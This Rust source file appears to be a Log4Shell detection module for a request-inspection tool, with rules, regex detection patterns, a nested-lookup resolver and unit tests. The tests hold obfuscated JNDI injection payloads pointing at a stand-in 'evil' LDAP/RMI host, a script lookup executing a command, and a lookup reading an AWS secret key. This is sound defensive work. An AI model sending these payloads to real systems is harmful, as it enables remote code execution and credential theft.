//! Log4Shell-class lookup injection (rules 2000–2099).
//!
//! Log4j (and Apache Commons Text) expand `${prefix:…}` lookups, innermost first, so attackers
//! hide `${jndi:ldap://…}` behind nested lookups that evaluate to single letters
//! (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${${env:NOPE:-j}ndi…}`). A small resolver does
//! the same expansion (bounded) and looks at what comes out.

use std::cell::RefCell;
use std::sync::LazyLock;

use super::shared::{Bank, push_once};
use crate::model::{Class, Finding, Rule, Severity, Target};
use crate::transform::{View, Views};

const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
    Rule {
        id,
        class: Class::Log4Shell,
        severity,
        paranoia,
        description,
    }
}

pub static RULES: &[Rule] = &[
    rule(
        2000,
        Severity::Critical,
        1,
        "JNDI lookup (after resolving nested lookups)",
    ),
    rule(
        2001,
        Severity::Critical,
        1,
        "nested lookups building a lookup name (obfuscation)",
    ),
    rule(
        2002,
        Severity::Critical,
        1,
        "remote or code-executing lookup (script, dns, url, file; Text4Shell)",
    ),
    rule(
        2003,
        Severity::Error,
        1,
        "lookup reading the environment or runtime (env, sys, java, ctx …)",
    ),
    rule(
        2004,
        Severity::Critical,
        1,
        "lookup resolving to a remote-protocol URL (ldap, rmi, dns, iiop, corba, nds)",
    ),
];

static CANON: LazyLock<Bank> = LazyLock::new(|| {
    Bank::new(
        "log4shell",
        &[
            (0, r"(?i)\$\{\s*jndi\s*:"),
            (
                1,
                r"(?i)\$\{[^}]{0,100}\$\{\s*(?:lower|upper|date|::-|[a-z0-9_.]*:[^}]{0,50}:-|base64|env|sys)",
            ),
            (
                2,
                r"(?i)\$\{\s*(?:script|dns|url|file|xml|base64decoder|urldecoder|resourcebundle|properties)\s*:",
            ),
            (
                3,
                r"(?i)\$\{\s*(?:env|sys|java|ctx|main|docker|k8s|kubernetes|spring|bundle|log4j|web|jvmrunargs|sd|marker|event|map|hostname|localhost|const)\s*[:}]",
            ),
        ],
    )
});

/// Remote protocols a JNDI or URL lookup fetches from.
const PROTOCOLS: [&str; 9] = [
    "ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:", "http:",
];

thread_local! {
    static BUF: RefCell<String> = const { RefCell::new(String::new()) };
}

/// What the resolver found.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
struct Resolved {
    jndi: bool,
    remote: bool,
}

/// Expands lookups innermost first, the way Log4j does, just enough to see through the
/// obfuscations: `lower:`/`upper:` give their argument, `key:-default` gives the default,
/// `date:'x'` gives `x`; anything else gives nothing. Bounded: at most 256 expansions over at
/// most 8 KiB.
fn resolve(s: &str, buf: &mut String) -> Resolved {
    let mut found = Resolved::default();
    buf.clear();
    let take = s.len().min(8192);
    let mut end = take;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    buf.extend(s[..end].chars().map(|c| c.to_ascii_lowercase()));
    for _ in 0..256 {
        let Some(start) = buf.rfind("${") else { break };
        let Some(close) = buf[start..].find('}').map(|i| start + i) else {
            // An unclosed lookup: drop its opener and keep going with the rest.
            buf.replace_range(start..start + 2, "");
            continue;
        };
        let content = &buf[start + 2..close];
        let trimmed = content.trim_start();
        if let Some(rest) = trimmed.strip_prefix("jndi:") {
            found.jndi = true;
            if PROTOCOLS.iter().any(|p| rest.trim_start().starts_with(p)) {
                found.remote = true;
            }
            return found;
        }
        if trimmed.starts_with("url:") || trimmed.starts_with("dns:") {
            found.remote = true;
        }
        let replacement: (usize, usize) = if let Some(i) = content.find(":-") {
            (start + 2 + i + 2, close)
        } else if let Some(r) = trimmed
            .strip_prefix("lower:")
            .or_else(|| trimmed.strip_prefix("upper:"))
        {
            (close - r.len(), close)
        } else if let Some(r) = trimmed.strip_prefix("date:") {
            let from = close - r.len() + (r.len() - r.trim_start_matches('\'').len());
            let to = close - (r.len() - r.trim_end_matches('\'').len());
            (from, to.max(from))
        } else {
            (close, close)
        };
        let rep_owned_len = replacement.1.saturating_sub(replacement.0);
        // Move the replacement into place: buf = buf[..start] + rep + buf[close+1..].
        if rep_owned_len == 0 {
            buf.replace_range(start..=close, "");
        } else {
            // Shift without allocating: remove the tail of the lookup, then its head.
            buf.replace_range(replacement.1..=close, "");
            buf.replace_range(start..replacement.0, "");
        }
    }
    if buf.contains("jndi:") {
        found.jndi = true;
        if PROTOCOLS.iter().any(|p| buf.contains(&format!("jndi:{p}"))) {
            found.remote = true;
        }
    }
    found
}

pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
    let raw = views.get(View::Raw);
    if !raw.contains('$') && !raw.contains('%') && !raw.contains('&') {
        return;
    }
    let canon = views.get(View::Canonical);
    if !canon.contains("${") {
        return;
    }
    let mut seen = 0u64;
    CANON.scan(canon, |r, m| {
        push_once(RULES, r, &mut seen, paranoia, t, View::Canonical, m, out)
    });
    let found = BUF.with(|b| match b.try_borrow_mut() {
        Ok(mut buf) => resolve(canon, &mut buf),
        Err(_) => resolve(canon, &mut String::new()),
    });
    let snippet = canon.get(canon.find("${").unwrap_or(0)..).unwrap_or(canon);
    if found.jndi {
        push_once(
            RULES,
            0,
            &mut seen,
            paranoia,
            t,
            View::Canonical,
            snippet,
            out,
        );
    }
    if found.remote {
        push_once(
            RULES,
            4,
            &mut seen,
            paranoia,
            t,
            View::Canonical,
            snippet,
            out,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Location, Part};

    fn ids(v: &str) -> Vec<u32> {
        let t = Target::new(Location::Header, "user-agent", Part::Value, v);
        let mut views = Views::new();
        views.load(v);
        let mut out = Vec::new();
        inspect(&t, &mut views, 1, &mut out);
        let mut ids: Vec<u32> = out.iter().map(|f| f.rule).collect();
        ids.sort_unstable();
        ids
    }

    #[test]
    fn patterns_compile() {
        assert_eq!(CANON.failed, 0);
    }

    #[test]
    fn rule_ids_are_in_block_and_unique() {
        let mut seen = std::collections::HashSet::new();
        for r in RULES {
            assert!((2000..2100).contains(&r.id));
            assert!(seen.insert(r.id));
        }
    }

    #[test]
    fn resolver() {
        let mut b = String::new();
        for v in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}",
            "${${upper:j}${lower:n}${lower:d}${lower:i}${lower::}${lower:l}${lower:d}${lower:a}${lower:p}://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
            "${${a:b:c:-j}ndi:dns://x}",
        ] {
            let r = resolve(v, &mut b);
            assert!(r.jndi, "{v}: {b}");
            assert!(r.remote, "{v}: {b}");
        }
        assert!(!resolve("${user.name} and ${price}", &mut b).jndi);
        assert!(!resolve("${{{{${", &mut b).jndi);
    }

    #[test]
    fn attacks() {
        assert!(ids("${jndi:ldap://evil/a}").contains(&2000));
        assert!(ids("${${lower:j}ndi:ldap://evil/a}").contains(&2000));
        assert!(ids("${${lower:j}ndi:ldap://evil/a}").contains(&2001));
        assert!(
            ids("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}").contains(&2002)
        );
        assert!(ids("${env:AWS_SECRET_ACCESS_KEY}").contains(&2003));
        // Through the views: percent-encoding, HTML entities, case.
        assert!(ids("%24%7Bjndi:ldap://evil/a%7D").contains(&2000));
        assert!(ids("%2524%257Bjndi:rmi://evil/a%257D").contains(&2000));
        assert!(ids("&#36;&#123;jndi:ldap://evil/a&#125;").contains(&2000));
        assert!(ids("${${::-J}${::-N}${::-D}${::-I}:${::-L}DAP://evil/a}").contains(&2000));
    }

    #[test]
    fn benign() {
        for v in [
            "Mozilla/5.0",
            "${price}",
            "$100",
            "cost: ${amount} USD",
            "a $ b { c }",
        ] {
            assert!(ids(v).is_empty(), "{v} -> {:?}", ids(v));
        }
    }
}
